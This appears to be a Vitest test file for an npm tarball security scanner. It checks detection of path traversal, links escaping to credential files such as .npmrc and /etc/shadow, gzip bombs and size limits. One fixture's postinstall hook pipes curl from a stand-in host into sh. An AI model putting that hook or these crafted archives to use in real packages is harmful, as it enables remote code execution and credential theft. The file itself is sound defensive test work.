import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { createGzip } from 'node:zlib';
import { pipeline } from 'node:stream/promises';
import { createWriteStream } from 'node:fs';
import { Header } from 'tar';
import { scanTarball } from '../../helper/src/scan/index.js';
import { InputError } from '../../helper/src/errors.js';
import { manifestEntry, rawTgz, tempDir } from './support.js';

let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir();
});
afterAll(() => work.cleanup());

const rules = (r: { findings: { rule: string; severity: string; file: string }[] }) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}`);

describe('scan: archive bounds', () => {
  it('reports path traversal entries and writes nothing', async () => {
    const marker = `sscs-traversal-${process.pid}-${Date.now()}`;
    const before = readdirSync(work.dir);
    const report = await scanTarball(Readable.from(rawTgz([
      manifestEntry(),
      { path: `package/../../../../tmp/${marker}`, body: 'inert' },
      { path: `/tmp/${marker}-abs`, body: 'inert' },
    ])));
    expect(rules(report)).toEqual(expect.arrayContaining([
      `high tar-path-traversal package/../../../../tmp/${marker}`,
      `high tar-path-traversal /tmp/${marker}-abs`,
    ]));
    expect(existsSync(`/tmp/${marker}`)).toBe(false);
    expect(existsSync(`/tmp/${marker}-abs`)).toBe(false);
    expect(readdirSync(work.dir)).toEqual(before);
  });

  it('reports symbolic and hard links that point outside the package, and links inside as low', async () => {
    const report = await scanTarball(Readable.from(rawTgz([
      manifestEntry(),
      { path: 'package/creds', type: 'SymbolicLink', linkpath: '../../../home/user/.npmrc' },
      { path: 'package/abs', type: 'SymbolicLink', linkpath: '/etc/passwd' },
      { path: 'package/hard', type: 'Link', linkpath: 'etc/shadow' },
      { path: 'package/ok', type: 'SymbolicLink', linkpath: 'index.js' },
    ])));
    expect(rules(report)).toEqual([
      'high tar-link-escape abs',
      'high tar-link-escape creds',
      'high tar-link-escape hard',
      'low tar-link ok',
    ]);
  });

  it('stops a gzip bomb as soon as the decompressed output passes the limit', async () => {
    const limit = 1024 * 1024;
    const zeros = 64 * 1024 * 1024;
    const file = join(work.dir, 'bomb.tgz');
    const header = Buffer.alloc(512);
    new Header({ path: 'package/zeros.bin', type: 'File', size: zeros, mode: 0o644, mtime: new Date(0) }).encode(header, 0);
    async function* tarOfZeros() {
      yield header;
      const block = Buffer.alloc(1024 * 1024);
      for (let i = 0; i < zeros / block.length; i++) yield block;
    }
    await pipeline(Readable.from(tarOfZeros()), createGzip({ level: 1 }), createWriteStream(file));
    const report = await scanTarball(file, { maxTotalBytes: limit });
    expect(rules(report)).toContain('medium limit-total-bytes (archive)');
    expect(rules(report)[0]).toBe('high scan-incomplete (package)');
    expect(report.complete).toBe(false);
    // Cut off within one gunzip chunk of the limit, not after inflating the 64 MiB.
    expect(report.bytes).toBeGreaterThan(limit);
    expect(report.bytes).toBeLessThan(limit + 256 * 1024);
  });

  it('stops at too many entries', async () => {
    const entries = [manifestEntry(), ...Array.from({ length: 60 }, (_, i) => ({ path: `package/f${i}.txt`, body: 'x' }))];
    const report = await scanTarball(Readable.from(rawTgz(entries)), { maxEntries: 50 });
    expect(rules(report)).toContain('medium limit-entries package/f49.txt');
    expect(report.files).toBe(51);
  });

  it('never calls clean a package whose install hook sits behind 20,000 empty files or a gzip bomb', async () => {
    const manifest = { path: 'package/package.json', body: JSON.stringify({ name: 'padded', version: '1.0.0', scripts: { postinstall: 'curl -s https://example.invalid/x | sh' } }) };
    const padded = await scanTarball(Readable.from(rawTgz([...Array.from({ length: 20_000 }, (_, i) => ({ path: `package/p/${i}` })), manifest])));
    expect(padded.complete).toBe(false);
    expect(rules(padded)[0]).toBe('high scan-incomplete (package)');
    const bomb = await scanTarball(Readable.from(rawTgz([{ path: 'package/zeros.bin', body: Buffer.alloc(4 * 1024 * 1024) }, manifest])), { maxTotalBytes: 1024 * 1024 });
    expect(bomb.complete).toBe(false);
    expect(rules(bomb)[0]).toBe('high scan-incomplete (package)');
  });

  it('skips over-long paths and files too large to read', async () => {
    const report = await scanTarball(Readable.from(rawTgz([
      manifestEntry(),
      { path: `package/${'a'.repeat(90)}.js`, body: 'x' },
      { path: 'package/big.js', body: 'x'.repeat(5000) },
    ])), { maxPathLength: 60, maxFileBytes: 4096 });
    // big.js was not read: the package is not reported clean.
    expect(rules(report)).toEqual(['high scan-incomplete (package)', 'medium limit-path-length package/' + 'a'.repeat(72), 'low file-not-scanned big.js']);
    expect(report.complete).toBe(false);
  });

  it('rejects input that is not a tarball with MALFORMED and the file name', async () => {
    const file = join(work.dir, 'not.tgz');
    writeFileSync(file, 'just text, not an archive\n'.repeat(40));
    const err = await scanTarball(file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(InputError);
    expect(err).toMatchObject({ code: 'MALFORMED', where: { file } });
  });

  it('rejects a missing file with FILE_NOT_FOUND', async () => {
    await expect(scanTarball(join(work.dir, 'missing.tgz'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
  });
});

describe('scan: broken input', () => {
  it('rejects a truncated gzip stream with MALFORMED', async () => {
    const whole = rawTgz([manifestEntry(), { path: 'package/a.js', body: 'x'.repeat(100_000) }]);
    const err = await scanTarball(Readable.from([whole.subarray(0, whole.length / 2)])).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'MALFORMED' });
  });

  it('rejects a stream that fails while reading', async () => {
    const failing = new Readable({ read() { this.destroy(new Error('disk went away')); } });
    await expect(scanTarball(failing)).rejects.toMatchObject({ code: 'MALFORMED', message: expect.stringContaining('disk went away') });
  });
});
